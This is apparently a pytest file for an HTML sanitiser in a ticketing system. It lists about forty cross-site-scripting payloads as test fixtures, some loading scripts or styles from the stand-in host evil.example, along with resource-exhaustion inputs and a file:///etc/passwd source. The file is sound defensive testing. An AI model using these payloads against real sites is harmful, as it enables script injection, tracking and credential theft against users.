"""Foreign HTML: it cannot run, load by itself in our pages, or take too much time."""

import re

import nh3
import pytest

from callcentre.core import html_cleaning
from callcentre.core.html_cleaning import LONGEST
from tickets import html

# Inputs that passed other sanitisers, and their reading by a browser.
HOSTILE = [
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\x0c=\x0calert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="https://evil.example/pixel.gif 1x">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='https://good.example' target='_top' onclick='alert(1)' style='position:fixed;inset:0'>x</a>",
    "<body onload=alert(1) background='https://evil.example/pixel.gif'>x",
    "<table background='javascript:alert(1)'><tr><td background='https://evil.example/p.gif'>x</td></tr></table>",
    "<div style='background:url(https://evil.example/pixel.gif)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example/'><input name=password><button formaction='javascript:alert(1)'>x</button>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p id=content name=csrfmiddlewaretoken class='cc-dialog'>x</p>",
    "<b title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</b>",
]
_TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s+[a-z]+=\"[^\"]*\")*)\s*/?>")
_ATTRIBUTE = re.compile(r"\s+([a-z]+)=\"([^\"]*)\"")
_KNOWN = {"align", "dir", "lang", "title", "href", "rel", "span", "width", "color", "size", "alt", "height", "src"}
_KNOWN |= {"start", "border", "cellpadding", "cellspacing", "colspan", "rowspan", "valign"}


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_html_is_removed(markup):
    for wrapped in (markup, f"<table><tr><td>{markup}", f"<b><i>{markup}", f"<p title='{markup}'>"):
        cleaned = html.clean(wrapped)

        # Every < begins a known tag with known attributes and allowed addresses.
        assert cleaned.count("<") == len(_TAG.findall(cleaned))
        for _end, tag, attributes in _TAG.findall(cleaned):
            assert tag in nh3.ALLOWED_TAGS | {"font", "tt", "center", "big"}
            for name, value in _ATTRIBUTE.findall(attributes):
                assert name in _KNOWN
                if name in ("href", "src"):
                    assert re.match(r"https?://|mailto:|tel:|cid:", value)
        # A browser's reading of the output is clean too.
        assert html.clean(cleaned) == cleaned


def test_ordinary_html_is_kept():
    markup = (
        '<h1>Zażółć</h1><p dir="rtl">a <b>b</b> <i>c</i> <u>d</u> <font color="red" size="2">e</font></p>'
        '<ul><li>x</li></ul><ol start="3"><li>y</li></ol><blockquote>q</blockquote><pre>z</pre>'
        '<table border="1"><tbody><tr><td colspan="2" width="10">t</td></tr></tbody></table>'
        '<img src="cid:logo@x" alt="Logo" width="10"><hr>'
        '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'
    )

    assert html.clean(markup.replace("&amp;", "&")) == markup


def test_remote_images_are_kept_and_nothing_else_can_load():
    markup = "<img src='https://evil.example/pixel.gif' width=1><img src='file:///etc/passwd'><img src='pixel.gif'>"

    assert html.clean(markup) == '<img src="https://evil.example/pixel.gif" width="1"><img><img>'


def nested(count: int) -> str:
    return "<div>" * count + "deep"


def reopened(count: int) -> str:
    """Return kilobytes that become megabytes in a browser: each paragraph reopens the open elements of the first."""
    return "<p>" + "".join(f"<font size={each}>" for each in range(count)) + "</p>" + "<p>x</p>" * count


@pytest.mark.walk("markup1", "markup8")
@pytest.mark.slow("cleans costly HTML")
@pytest.mark.parametrize(
    "markup",
    [
        nested(1_000_000),
        nested(100_000),
        reopened(20_000),
        "<p>text</p>" * 1_900_000,
        "<" * 5_000_000,
        "<style>" * 500_000,
        "<!--" * 500_000,
        "<a b='" * 300_000,
        "<p " + "a=1 " * 400_000,
        "&amp" * 1_000_000,
        "<table><b>" * 30_000,
        "<select><option>" * 60_000,
    ],
)
def test_costly_html_ends_within_the_limits(markup):
    # Its limits are of processor time and memory, in a process of its own; without them the first takes an hour.
    cleaned = html.clean(markup)

    assert len(cleaned) <= LONGEST
    assert "<script" not in cleaned


@pytest.mark.slow("cleans costly HTML")
def test_html_that_cannot_be_cleaned_becomes_text():
    hidden = "<style>p{}</style><script>alert(1)</script>"

    assert html.clean(f"{hidden}<p>one</p>&lt;b&gt;" + nested(100_000)) == "one<br>\n&lt;b&gt;deep"
    assert html.clean("deep<style>" + nested(1_000_000)) == "deep"


def test_a_mail_of_30_kb_is_cleaned_in_this_process_and_a_larger_one_keeps_its_form(monkeypatch):
    row = (
        '<tr><td style="padding:4px"><p class="x"><font size=2>a <b>b</b></font> <a href="https://x.example">c</a></p>'
    )

    assert html.clean(f"<table>{row * 8_000}</table>").count("<b>b</b>") == 8_000
    monkeypatch.setattr(html_cleaning, "_clean_apart", None)
    assert html.clean(f"<table>{row * 250}</table>").count("<b>b</b>") == 250


def test_text_and_html_are_converted():
    assert html.from_text("a < b\nc") == "a &lt; b<br>\nc"
    assert html.as_text("<p>a &lt; b</p><p>c<br>d</p>") == "a < b\nc\nd"
    assert html.says_nothing("<p>&nbsp;<br></p>")
    assert not html.says_nothing('<img src="cid:x">')
